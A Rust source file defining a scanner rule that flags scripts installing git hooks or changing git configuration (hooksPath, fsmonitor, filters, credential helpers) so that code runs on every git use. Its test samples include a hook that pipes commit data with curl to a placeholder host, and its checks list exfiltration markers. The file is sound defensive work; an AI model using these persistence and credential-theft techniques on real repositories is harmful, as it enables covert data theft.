//! `persistence-git-hook`: something is made to run with each use of git.

use crate::finding::{Confidence, Severity};
use crate::scan::code::Unit;
use crate::scan::command;
use crate::scan::rule::{Check, Reporter, Rule, Sample};

/// The rule.
pub static RULE: Rule = Rule {
    id: "persistence-git-hook",
    title: "Makes something run with each use of git",
    severity: Severity::Warning,
    confidence: Confidence::Medium,
    why: "Hooks of git run with every commit, pull or clone of the person, and are part of no review.",
    fix: "Let the person install hooks with the tool of the project.",
    references: &["ATT&CK T1546", "CWE-829"],
    hits: &[
        Sample::File("a.sh", "git config --global core.hooksPath /tmp/hooks\n"),
        Sample::File(
            "a.sh",
            "echo 'curl -d @- https://collect.example.com' > .git/hooks/post-commit\nchmod +x .git/hooks/post-commit\n",
        ),
        Sample::File(
            "scripts/a.py",
            "open('.git/hooks/pre-push', 'w').write('x')\n",
        ),
        Sample::File(
            "scripts/a.js",
            "require('fs').writeFileSync('.git/hooks/post-merge', 'x');\n",
        ),
    ],
    misses: &[
        Sample::File("a.sh", "git config user.name demo\npre-commit install\n"),
        Sample::File("a.sh", "cat .git/hooks/pre-commit\n"),
        Sample::File("scripts/a.py", "open('docs/hooks.md', 'w').write('x')\n"),
        Sample::File(
            "scripts/a.js",
            "require('fs').writeFileSync('.githooks/pre-commit', 'x');\n",
        ),
    ],
    check: Check::Unit(check),
};

fn check(unit: &Unit, reporter: &mut Reporter<'_>) {
    for (span, path, content) in command::writes(unit) {
        if path.contains(".git/hooks/") && !path.ends_with(".sample") {
            let raised = reporter.raise(span);
            let sends = content
                .text
                .as_deref()
                .is_some_and(|text| text.contains("curl ") || text.contains("/dev/tcp/"));
            if sends || command::is_loaded(content) {
                let takes = content.text.as_deref().is_some_and(|text| {
                    text.contains("://")
                        && [
                            "@-",
                            " -T -",
                            "--post-file",
                            "git diff",
                            "git show",
                            "git bundle",
                            "$(env",
                        ]
                        .iter()
                        .any(|option| text.contains(option))
                });
                raised
                    .severity(if takes && command::is_program(unit) {
                        Severity::Blocker
                    } else {
                        Severity::Error
                    })
                    .message("Makes git run what reaches the network");
            }
        }
    }
    for command in command::all(unit) {
        if !command.is(&["git"]) || !command.has("config") {
            continue;
        }
        let line = command.small();
        let global = command.has("--global") || command.has("--system");
        let runs = line.contains("core.hookspath")
            || line.contains("init.templatedir")
            || line.contains("core.fsmonitor")
                && !line.ends_with(" true")
                && !line.ends_with(" false")
            || line.contains("core.sshcommand") && !line.contains("ssh -i");
        let unset = line.contains("--unset") || line.contains("--get");
        let filters = (line.contains(" filter.") || line.contains(" alias."))
            && [".clean", ".smudge", ".process", " alias."]
                .iter()
                .any(|key| line.contains(key))
            || line.contains("core.fsmonitor")
            || line.contains("core.pager")
            || line.contains("diff.external")
            || line.contains(".textconv");
        if filters && !unset && command::is_loaded_text(command.line) {
            reporter
                .raise(command.span)
                .severity(Severity::Blocker)
                .message("Has git run what it downloads, again and again");
            continue;
        }
        if line.contains("credential.helper") && !unset && is_own_helper(&line) {
            // What it is handed, the program that is written next to it sends.
            let sends = command::writes(unit).any(|(_, _, content)| {
                content.text.as_deref().is_some_and(|text| {
                    text.contains("://")
                        && ["curl", "wget", "nc ", "urlopen", "fetch(", "http.request"]
                            .iter()
                            .any(|word| text.contains(word))
                })
            });
            let raised = reporter.raise(command.span);
            if sends {
                raised
                    .severity(Severity::Blocker)
                    .message("Has git hand every password to a program that sends it away");
            } else {
                raised.severity(Severity::Info);
            }
        }
        if runs && !unset {
            let raised = reporter.raise(command.span);
            let sends = command::writes(unit).any(|(_, _, content)| {
                content
                    .text
                    .as_deref()
                    .is_some_and(|text| text.contains("curl ") || text.contains("://"))
                    || command::is_loaded(content)
            });
            if global && command::is_program(unit) {
                raised.severity(if sends {
                    Severity::Blocker
                } else {
                    Severity::Error
                });
            } else {
                raised.severity(Severity::Info);
            }
        }
    }
}

/// Whether the helper that keeps passwords is none of the well-known ones.
fn is_own_helper(line: &str) -> bool {
    const KNOWN: &[&str] = &[
        "store",
        "cache",
        "osxkeychain",
        "manager",
        "libsecret",
        "wincred",
        "gh auth",
        "glab auth",
        "gcloud",
        "gcr",
        "codecommit",
    ];
    let value = line.split("credential.helper").nth(1).unwrap_or_default();
    let value = value.trim().trim_matches(['"', '\'']);
    let name = value.rsplit('/').next().unwrap_or(value);
    value.contains(['/', '!'])
        && !KNOWN.iter().any(|known| {
            name.starts_with(known) || name.starts_with(&format!("git-credential-{known}"))
        })
}
